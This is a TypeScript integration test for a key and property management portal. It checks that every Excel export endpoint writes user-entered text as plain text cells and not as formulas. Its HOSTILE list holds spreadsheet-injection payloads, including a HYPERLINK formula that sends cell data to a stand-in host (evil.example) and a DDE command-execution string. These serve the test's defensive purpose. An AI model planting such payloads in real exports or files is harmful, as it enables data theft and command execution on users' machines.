import type { Endpoint } from '@platform/core';
import { startTestHost, type TestHost } from '@platform/testing';
import { userEndpoints } from '@plugins/accounts/contract';
import { type BankIdDesk, startBankIdDesk } from '@plugins/id-control/testing';
import { importEndpoints } from '@plugins/imports/contract';
import { carryOut } from '@plugins/imports/testing';
import { inventoryEndpoints, SystemLock } from '@plugins/keys/contract';
import { ledgerEndpoints } from '@plugins/orders/contract';
import { demoOrganisations } from '@plugins/organisations/testing';
import { Property } from '@plugins/properties/contract';
import { serviceRequestEndpoints } from '@plugins/residents/contract';
import { Client } from 'pg';
import { afterAll, beforeAll, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { serverPlugins } from './plugins.ts';
import { makeRows } from './walk/prepare.ts';

/** What a program for sheets computes, or might. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
];
/** What people write into the lists that are exported, by its table. */
const WRITTEN: Readonly<Record<string, readonly string[]>> = {
  organisations_organisation: [
    'name',
    'organisation_number',
    'address',
    'postal_code',
    'city',
    'contact_person',
    'reference',
    'phone',
    'email',
  ],
  residents_apartment: ['number', 'address', 'additional_info'],
  residents_service_request_line: ['number', 'address', 'comment', 'answered_by'],
  accounts_user: ['first_name', 'last_name'],
  keys_key: ['marking', 'name', 'manufacturer', 'id_number', 'note', 'owner'],
  keys_lock_system: ['name'],
  keys_key_ring: ['name', 'note'],
  keys_repository: ['name', 'space'],
  keys_system_lock: ['name', 'space'],
  keys_loan: ['number', 'handed_out_by'],
  keys_inventory: ['note', 'created_by'],
  keys_inventory_key: ['marking', 'name', 'lock_system', 'note', 'holder_name'],
  keys_receipt_template: ['name'],
  booking_resource: ['name', 'rules'],
  cases_text: ['name', 'title', 'text'],
  orders_order: ['number', 'ordered_by'],
  kee_device: ['number', 'description'],
  kee_lock: ['name'],
  kee_access_group: ['name'],
  properties_property: ['name', 'address', 'city'],
  properties_area: ['name'],
  properties_person: ['name'],
  properties_pin: ['space', 'note'],
  properties_quote: ['asked_by', 'message'],
  board_board: ['name', 'address', 'screen_group'],
  board_news: ['title'],
};
/** A loan's holder and keys are called as its receipt calls them. */
const OVERWRITTEN_RECEIPTS = `update keys_loan set receipt =
  jsonb_set(jsonb_set(receipt, '{holder,name}', '"=1+1"'), '{keys,0,marking}', '"@SUM(A1:A9)"')`;
const ADMIN = 'admin@demo.example';
/** What the locksmith alone reads. */
const PARTNER = 'partner@demo.example';
const BY_PARTNER: readonly string[] = ['orders.exportLedger', 'orders.exportBatch', 'cases.caseText.exportWorkbook'];

let host: TestHost;
let desk: BankIdDesk;
let owner: Client;
let importId: string;
beforeAll(async () => {
  desk = await startBankIdDesk();
  host = await startTestHost({ plugins: serverPlugins, settings: desk.settings });
  owner = new Client({ connectionString: host.databaseUrl });
  await owner.connect();
  await makeRows(host);
  importId = await importHostile();
  for (const [table, columns] of Object.entries(WRITTEN)) await overwrite(table, columns);
  await owner.query(OVERWRITTEN_RECEIPTS);
});
afterAll(async () => {
  await owner?.end();
  await host?.stop();
  await desk?.stop();
});

/** Keys whose type is none, so that each row comes back to its sender. */
async function importHostile(): Promise<string> {
  const rows = HOSTILE.map((text, at) => `"${at}${text.replaceAll('"', '""')}";"${text.replaceAll('"', '""')}"`);
  const file = new File([`Märkning;Typ\n${rows.join('\n')}\n`], 'nycklar.csv', { type: 'text/csv' });
  const { body } = await host.call(importEndpoints.open, { body: { kind: 'keys', lockSystem: 'Passersystem' }, file }, { as: ADMIN });
  await carryOut(host.runtime, { importId: body.id, organisationId: demoOrganisations.bjorken });
  return body.id;
}

/** Puts one of them before each text, as the owner of the table: no contract may stand in the way. */
async function overwrite(table: string, columns: readonly string[]): Promise<void> {
  const changes = columns.map((column, at) => `${column} = ($1::text[])[1 + (row + ${at}) % ${HOSTILE.length}] || ' ' || row || ${at}`);
  await owner.query(
    `update ${table} as t set ${changes.join(', ')} from (select id, (row_number() over (order by id))::int as row from ${table}) as numbered
     where t.id = numbered.id`,
    [HOSTILE],
  );
}

const workbooks: readonly Endpoint[] = serverPlugins
  .flatMap(({ routes = [] }) => routes.flatMap(({ contract }) => Object.values(contract)))
  .filter(({ path }) => path.endsWith('.xlsx'));
/** Nothing that anybody wrote is in the empty workbook and in counts; what one fetches of oneself is what an administrator fetches. */
const WITHOUT_WORDS = ['imports.template', 'reports.exportWorkbook', 'properties.exportMaterials', 'accounts.exportOwnData'];
const withWords = workbooks.filter(({ id }) => !WITHOUT_WORDS.includes(id));

/** Which one is asked for, where the path names one. */
const PARAMS: Readonly<Record<string, () => Promise<string>>> = {
  'imports.failed': async () => importId,
  'accounts.exportPersonalData': async () => {
    const { items } = (await host.call(userEndpoints.list, { query: { role: ['RESIDENT'] } }, { as: ADMIN })).body;
    return items[0]?.id ?? '';
  },
  'orders.exportBatch': async () => {
    const { items } = (await host.call(ledgerEndpoints.batches, { query: {} }, { as: PARTNER })).body;
    return items[0]?.id ?? '';
  },
  'residents.exportRequest': async () => {
    const { items } = (await host.call(serviceRequestEndpoints.listRequests, { query: {} }, { as: ADMIN })).body;
    return items[0]?.id ?? '';
  },
  'properties.exportMaterials': async () =>
    (await host.call(Property.endpoints.list, { query: {} }, { as: ADMIN })).body.items[0]?.id ?? '',
  'keys.exportDoorAccess': async () => {
    const { items } = (await host.call(SystemLock.endpoints.list, { query: {} }, { as: ADMIN })).body;
    return items.find(({ keyCount }) => keyCount > 1)?.id ?? '';
  },
  'keys.exportInventoryHolders': async () => {
    const { items } = (await host.call(inventoryEndpoints.listInventories, { query: {} }, { as: ADMIN })).body;
    return items.toSorted((one, other) => other.keyCount - one.keyCount)[0]?.id ?? '';
  },
};
const cellsOf = (raw: Buffer): readonly XLSX.CellObject[] =>
  Object.values(XLSX.read(raw, { type: 'buffer', cellFormula: true, cellNF: true }).Sheets).flatMap((sheet) =>
    Object.entries(sheet).flatMap(([place, cell]) => (place.startsWith('!') ? [] : [cell as XLSX.CellObject])),
  );

it.each(withWords.map((endpoint) => [endpoint.id, endpoint] as const))(
  '%s holds what people wrote as text, whatever it begins with',
  async (id, endpoint) => {
    const params = { id: (await PARAMS[id]?.()) ?? '', organisationId: demoOrganisations.bjorken };
    const { status, raw } = await host.call(endpoint, { params } as object, {
      as: BY_PARTNER.includes(id) ? PARTNER : ADMIN,
    });
    expect(status).toBe(200);
    const cells = cellsOf(raw);
    expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
    const hostile = cells.filter(({ v }) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v));
    // each row and each column begins with another of them
    expect(hostile.length).toBeGreaterThan(1);
    expect(hostile.filter(({ t, z }) => t !== 's' || z !== '@')).toEqual([]);
  },
);

it('and those are all the workbooks that the portal gives', () => {
  expect(workbooks.map(({ id }) => id)).toContain('organisations.exportOrganisations');
  expect(new Set(workbooks.map(({ reply }) => reply))).toEqual(new Set(['stream']));
  expect(workbooks.filter(({ path, id }) => path.includes('{id}') && !PARAMS[id])).toEqual([]);
});
